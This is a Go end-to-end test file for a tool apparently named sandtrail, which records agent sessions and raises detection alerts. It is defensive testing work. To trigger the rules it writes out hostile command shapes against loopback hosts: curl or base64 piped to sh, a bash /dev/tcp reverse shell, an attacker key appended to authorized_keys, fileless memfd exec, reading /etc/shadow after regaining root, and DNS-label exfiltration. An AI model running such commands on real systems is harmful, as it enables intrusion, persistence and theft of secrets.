package e2e

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/sandtrail/sandtrail/policies"
	"github.com/sandtrail/sandtrail/policies/rules"
	"github.com/sandtrail/sandtrail/record/event"
)

// alertRules are the names of the rules whose alerts evs holds (a Sigma
// rule's name, else its id; a Go rule's name), sorted, each once.
func alertRules(t *testing.T, evs []*event.Event) []string {
	t.Helper()
	set, err := rules.Load(policies.Detections{})
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, a := range kinds(evs, event.KindAlert) {
		if n := set.Name(a.Alert.RuleID); !slices.Contains(out, n) {
			out = append(out, n)
		}
	}
	slices.Sort(out)
	return out
}

// The SigmaHQ rules by id, as alertRules names them (they have no name).
const (
	sigmaBase64Pipe = "ba592c6d-6888-43c3-b8c6-689b8fe47337"
	sigmaShellPipe  = "880973f3-9708-491c-a77b-2a35a1921158"
	sigmaCurlTmp    = "a2d9e2f3-0f43-4c7a-bcd9-9acfc0d723aa"
)

// checkAlerts runs the session and checks that exactly the rules want
// raised alerts in it, and that its journal verifies.
func checkAlerts(t *testing.T, e *env, r result, want ...string) []*event.Event {
	t.Helper()
	if r.summary.Journal.Status != "intact" {
		t.Fatalf("journal %q, want intact\nstderr:\n%s", r.summary.Journal.Status, r.stderr)
	}
	evs := e.events(r.summary.SessionID)
	slices.Sort(want)
	if got := alertRules(t, evs); !slices.Equal(got, want) {
		t.Errorf("alerts of the rules %v, want %v:\n%s\nstdout:\n%s\nstderr:\n%s", got, want, alertLines(evs), r.stdout, r.stderr)
	}
	return evs
}

// scriptServer serves a harmless shell script on loopback, and counts
// the requests for it.
func scriptServer(t *testing.T, body string) string {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		fmt.Fprint(w, body)
	}))
	t.Cleanup(srv.Close)
	return srv.URL
}

// TestDetectPipeToShell: commands typed into a shell that reads them on
// its stdin, so that no argv holds the pipeline: curl from a loopback
// server piped into sh, and a base64 decode piped into sh, each raise
// their rule from the kernel's pipe inodes (stdin_from, stdout_to). A
// control session runs the same downloads and decodes into grep and cat,
// and into a file, and raises nothing.
func TestDetectPipeToShell(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	url := scriptServer(t, "echo downloaded-ran\n")
	r := e.runStdin(strings.NewReader("curl -s "+url+"/s.sh | sh\necho ZWNobyBkZWNvZGVkLXJhbgo= | base64 -d | sh\n"), "--", "/bin/sh")
	for _, want := range []string{"downloaded-ran", "decoded-ran"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("session output lacks %q:\n%s\n%s", want, r.stdout, r.stderr)
		}
	}
	evs := checkAlerts(t, e, r, "download_piped_to_shell", "base64_piped_to_shell")
	if !strings.Contains(r.stderr, "sandtrail: alert [high] Download piped to a shell or interpreter") {
		t.Errorf("run printed no live alert line:\n%s", r.stderr)
	}
	for _, a := range kinds(evs, event.KindAlert) {
		if len(a.Alert.Refs) != 1 {
			t.Errorf("alert %s refs = %v, want the exec's seq", a.Alert.Title, a.Alert.Refs)
		}
	}

	clean := e.runStdin(strings.NewReader("curl -s "+url+"/s.sh | grep -c echo\ncurl -s -o script.txt "+url+"/s.sh\necho aGkK | base64 -d | cat\necho hi | base64 | sh -c 'cat >/dev/null'\n"), "--", "/bin/sh")
	checkAlerts(t, e, clean)
	e.verify()
}

// TestDetectSigmaHQRules: SigmaHQ's three Linux rules, loaded unchanged
// as built-in rules, fire in real sessions on the command lines of their
// scenarios (a base64 payload piped to bash in bash -c, a file piped to
// sh in sh -c, a curl download to /tmp run by sh -c), beside the lineage
// rules that the same pipelines raise.
func TestDetectSigmaHQRules(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	url := scriptServer(t, "echo stage-ran\n")
	tests := []struct {
		name string
		argv []string
		want []string
	}{
		{"base64 pipe to bash", []string{"bash", "-c", "echo ZWNobyBzaWdtYQo= | base64 -d | bash"},
			[]string{sigmaBase64Pipe, sigmaShellPipe, "base64_piped_to_shell"}},
		{"shell pipe to shell", []string{"sh", "-c", "echo 'echo stage-ran' > /tmp/stage; cat /tmp/stage | sh"},
			[]string{sigmaShellPipe}},
		{"curl to tmp then sh -c", []string{"sh", "-c", "/usr/bin/curl -s -o /tmp/x.sh " + url + "/x.sh; sh /tmp/x.sh"},
			[]string{sigmaCurlTmp}},
		{"control: a pipe to grep", []string{"sh", "-c", "echo hi | grep -c hi"}, nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			checkAlerts(t, e, e.run(append([]string{"--"}, tc.argv...)...), tc.want...)
		})
	}
	e.verify()
}

// acceptAndClose accepts every connection to ln and closes it, until the
// test ends and closes ln.
func acceptAndClose(t *testing.T, ln net.Listener) {
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
}

// TestDetectReverseShell: bash opening /dev/tcp to a loopback listener
// raises the command rule (its argv) and the connect rule (the kernel's
// connect by a shell); curl connecting to the same listener raises
// neither.
func TestDetectReverseShell(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	acceptAndClose(t, ln)
	host, port, _ := net.SplitHostPort(ln.Addr().String())
	r := e.run("--", "bash", "-c", fmt.Sprintf("exec 3<>/dev/tcp/%s/%s; echo x >&3 2>/dev/null; true", host, port))
	checkAlerts(t, e, r, "reverse_shell_command", "reverse_shell_connect")
	checkAlerts(t, e, e.run("--", "curl", "-s", "-o", "/dev/null", "http://"+ln.Addr().String()+"/"))
	e.verify()
}

// TestDetectCredentialFiles: a key appended to authorized_keys (refused
// by the default policy's protected_write, and alerted all the same) and
// a link to a private key raise credential_write and
// credential_link_or_rename; the same operations on other files, and
// making ~/.ssh itself, raise nothing.
func TestDetectCredentialFiles(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	r := e.run("--", "sh", "-c", `mkdir -p "$HOME/.ssh"; echo "ssh-ed25519 AAAA intruder" >> "$HOME/.ssh/authorized_keys"; ln -s "$HOME/.ssh/id_ed25519" /tmp/k; true`)
	checkAlerts(t, e, r, "credential_write", "credential_link_or_rename")
	clean := e.run("--", "sh", "-c", `mkdir -p "$HOME/.ssh" "$HOME/notes"; echo note >> "$HOME/notes/a"; ln -s "$HOME/notes/a" /tmp/n; true`)
	checkAlerts(t, e, clean)
	e.verify()
}

// memfdExecHelper copies /bin/true into a memfd and execs it (execveat
// with AT_EMPTY_PATH): a fileless exec.
func memfdExecHelper([]string) int {
	b, err := os.ReadFile("/bin/true")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 3
	}
	fd, err := unix.MemfdCreate("sandtrail-e2e-fileless", 0)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 3
	}
	if _, err := unix.Write(fd, b); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 3
	}
	argv, _ := syscall.SlicePtrFromStrings([]string{"true"})
	envv, _ := syscall.SlicePtrFromStrings(nil)
	empty, _ := syscall.BytePtrFromString("")
	_, _, errno := syscall.Syscall6(unix.SYS_EXECVEAT, uintptr(fd), uintptr(unsafe.Pointer(empty)),
		uintptr(unsafe.Pointer(&argv[0])), uintptr(unsafe.Pointer(&envv[0])), unix.AT_EMPTY_PATH, 0)
	fmt.Fprintln(os.Stderr, "execveat:", errno)
	return 3
}

// TestDetectExecShapes: a fileless exec (a memfd) raises fileless_exec; an
// argv of 200 KiB, past the head and tail the collector keeps, raises
// argv_hidden_middle; an exec from a file and a short argv raise neither.
func TestDetectExecShapes(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	checkAlerts(t, e, e.run(append([]string{"--"}, helperCmd("memfdexec")...)...), "fileless_exec")
	pad := strings.Repeat("p", 4096)
	long := []string{"--", "/bin/true"}
	for range 50 {
		long = append(long, pad)
	}
	checkAlerts(t, e, e.run(long...), "argv_hidden_middle")
	checkAlerts(t, e, e.run("--", "/bin/true", pad, pad))
	e.verify()
}

// TestDetectSessionEnds: a session whose agent is root raises agent_uid0
// (and none with agent_uid0: allow); one killed by its memory limit raises
// session_ended_badly; a session of the default agent that ends normally
// raises neither.
func TestDetectSessionEnds(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	checkAlerts(t, e, e.run("--user", "root", "--", "true"), "agent_uid0")
	allow := writePolicy(t, "agent_uid0: allow\n")
	checkAlerts(t, e, e.run("--policy", allow, "--user", "root", "--", "true"))
	oom := e.run(append([]string{"--memory", "64M", "--"}, helperCmd("alloc", "512")...)...)
	if oom.summary.Reason != "oom" {
		t.Fatalf("session reason %q, want oom\n%s", oom.summary.Reason, oom.stderr)
	}
	checkAlerts(t, e, oom, "session_ended_badly")
	checkAlerts(t, e, e.run("--", "true"))
	e.verify()
}

// TestDetectNonRegistrySource: pip asked for a tarball by URL is refused
// by the shim (on_unknown_source) and raises non_registry_source; pip
// asked for nothing raises nothing.
func TestDetectNonRegistrySource(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	r := e.run("--", "pip3", "install", "http://127.0.0.1:9/evil-1.0.tar.gz")
	if r.code == 0 {
		t.Errorf("pip3 install of a URL exited 0, want the shim's refusal\n%s", r.stderr)
	}
	checkAlerts(t, e, r, "non_registry_source")
	checkAlerts(t, e, e.run("--", "pip3", "--version"))
	e.verify()
}

// TestDetectNetworkShapes, in a network namespace of its own with a
// loopback DNS server as the proxy's upstream: a lookup of a name with a
// 40-character label raises dns_long_label; a lookup of dns.google raises
// doh_lookup; a connect to an address the policy names a DoH endpoint
// raises doh_endpoint; ten connects refused by egress in a minute raise
// blocked_connection_burst. A session that looks up and connects to
// ordinary names raises none of them.
func TestDetectNetworkShapes(t *testing.T) {
	t.Parallel()
	e := newNetEnv(t)
	up := e.startAuthServer()
	var ln net.Listener
	e.do(func() {
		var err error
		if ln, err = net.Listen("tcp", "127.0.0.7:443"); err != nil {
			t.Fatal(err)
		}
	})
	acceptAndClose(t, ln)
	pol := writePolicy(t, "egress:\n  doh_endpoints: [127.0.0.7]\n  blocked_cidrs: [127.0.0.9/32]\n")
	label := strings.Repeat("a1b2c3d4e5", 4)
	connect := strings.Join(helperCmd("connect", "127.0.0.9:80"), " ")
	script := fmt.Sprintf("getent hosts %s.exfil.test; getent hosts dns.google; %s; for i in 1 2 3 4 5 6 7 8 9 10; do %s; done; true",
		label, strings.Join(helperCmd("connect", "127.0.0.7:443"), " "), connect)
	r := e.run("--policy", pol, "--dns-upstream", up.Addr, "--", "sh", "-c", script)
	checkAlerts(t, e, r, "dns_long_label", "doh_lookup", "doh_endpoint", "blocked_connection_burst")
	clean := e.run("--policy", pol, "--dns-upstream", up.Addr, "--", "sh", "-c",
		"getent hosts allowed.test; "+strings.Join(helperCmd("connect", "127.0.0.9:80"), " ")+"; true")
	checkAlerts(t, e, clean)
	e.verify()
}

// gainRootHelper CGROUP UID ADDR, run by the test as root: it joins the
// session's cgroup, drops its real uid to the agent's while it keeps
// effective and saved uid 0 (what an exploit leaves a process with), and
// execs itself as rootexec, which the record sees as an exec by the agent's
// uid.
func gainRootHelper(args []string) int {
	if err := os.WriteFile(args[0]+"/cgroup.procs", []byte(strconv.Itoa(os.Getpid())), 0o644); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 3
	}
	uid, _ := strconv.Atoi(args[1])
	runtime.LockOSThread()
	if err := unix.Setresuid(uid, 0, 0); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 3
	}
	self, err := os.Executable()
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 3
	}
	err = syscall.Exec(self, []string{self, args[2]}, []string{helperEnv + "=rootexec", "PATH=/usr/bin:/bin"})
	fmt.Fprintln(os.Stderr, "exec:", err)
	return 3
}

// rootExecHelper ADDR takes root back (setresuid 0) and runs a shell that
// reads /etc/shadow and connects to ADDR: root gained in the session.
func rootExecHelper(args []string) int {
	runtime.LockOSThread()
	if err := unix.Setresuid(0, 0, 0); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 3
	}
	err := syscall.Exec("/bin/sh", []string{"sh", "-c", "cat /etc/shadow >/dev/null; curl -s -o /dev/null http://" + args[0] + "/; true"},
		[]string{"PATH=/usr/bin:/bin"})
	fmt.Fprintln(os.Stderr, "exec:", err)
	return 3
}

// TestDetectGainedRoot: a process that joins a running session with the
// agent's real uid and effective uid 0, as a kernel exploit would leave
// it, takes root back and runs a shell that reads /etc/shadow and connects
// out: uid0_exec, uid0_sensitive_read and uid0_connect. A session whose
// agent is root doing the same raises only agent_uid0.
func TestDetectGainedRoot(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	srv := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
	t.Cleanup(srv.Close)
	addr := strings.TrimPrefix(srv.URL, "http://")
	// The session waits for a line on its stdin, which comes once the
	// intruder is done; the marker names its shell.
	marker := "sandtrail-e2e-intruded-" + strconv.Itoa(os.Getpid())
	stdin, release := io.Pipe()
	done := make(chan ran, 1)
	go func() {
		r, err := e.tryRunStdin(stdin, "--", "sh", "-c", "read line # "+marker)
		done <- ran{r, err}
	}()
	var pid int
	waitFor(t, "the session's shell", func() bool { pid = sessionShell(marker); return pid != 0 })
	cg := v2Dir(t, pid)
	agent, err := user.Lookup("sandtrail-agent")
	if err != nil {
		t.Fatal(err)
	}
	c := exec.Command(helper, cg, agent.Uid, addr)
	c.Env = []string{helperEnv + "=gainroot"}
	if out, err := c.CombinedOutput(); err != nil {
		t.Errorf("intruder: %v\n%s", err, out)
	}
	release.Write([]byte("go\n"))
	release.Close()
	r := <-done
	if r.err != nil {
		t.Fatal(r.err)
	}
	checkAlerts(t, e, r.r, "uid0_exec", "uid0_sensitive_read", "uid0_connect")
	checkAlerts(t, e, e.run("--user", "root", "--", "sh", "-c", "cat /etc/shadow >/dev/null; curl -s -o /dev/null "+srv.URL+"/; true"), "agent_uid0")
	e.verify()
}

// sessionShell is the pid of a session's sh whose command line names
// marker.
func sessionShell(marker string) int {
	ents, _ := os.ReadDir("/proc")
	for _, en := range ents {
		pid, err := strconv.Atoi(en.Name())
		if err != nil {
			continue
		}
		b, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
		if err == nil && strings.HasPrefix(string(b), "sh\x00-c\x00") && strings.Contains(string(b), marker) {
			return pid
		}
	}
	return 0
}

// v2Dir is the directory of pid's cgroup v2.
func v2Dir(t *testing.T, pid int) string {
	t.Helper()
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/cgroup", pid))
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(string(b), "\n") {
		if p, ok := strings.CutPrefix(line, "0::"); ok {
			for _, root := range []string{"/sys/fs/cgroup/unified", "/sys/fs/cgroup"} {
				if _, err := os.Stat(filepath.Join(root, p, "cgroup.procs")); err == nil {
					return filepath.Join(root, p)
				}
			}
		}
	}
	t.Fatalf("no cgroup v2 directory of pid %d in:\n%s", pid, b)
	return ""
}

// TestDetectCleanGoBuild: a Go build and its tests in a session (the
// compiler, the linker, the test binary; no module download) raise no
// alert of any rule.
func TestDetectCleanGoBuild(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	goBin := "/usr/local/go/bin/go"
	if _, err := os.Stat(goBin); err != nil {
		t.Skipf("no Go toolchain at %s: %v", goBin, err)
	}
	script := `set -e; mkdir -p hello; cd hello
printf 'module example.com/hello\n\ngo 1.21\n' > go.mod
printf 'package main\n\nimport "fmt"\n\nfunc main() { fmt.Println(greet()) }\n\nfunc greet() string { return "hello" }\n' > main.go
printf 'package main\n\nimport "testing"\n\nfunc TestGreet(t *testing.T) {\n\tif greet() != "hello" {\n\t\tt.Fatal(greet())\n\t}\n}\n' > main_test.go
` + goBin + ` build -o hello . && ./hello && ` + goBin + ` vet . && ` + goBin + ` test .`
	r := e.run("--env", "GOTOOLCHAIN=local", "--env", "GOPROXY=off", "--env", "GOFLAGS=-mod=mod", "--", "sh", "-c", script)
	if r.code != 0 || !strings.Contains(r.stdout, "hello") {
		t.Fatalf("go build in the session: exit %d\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
	checkAlerts(t, e, r)
	e.verify()
}
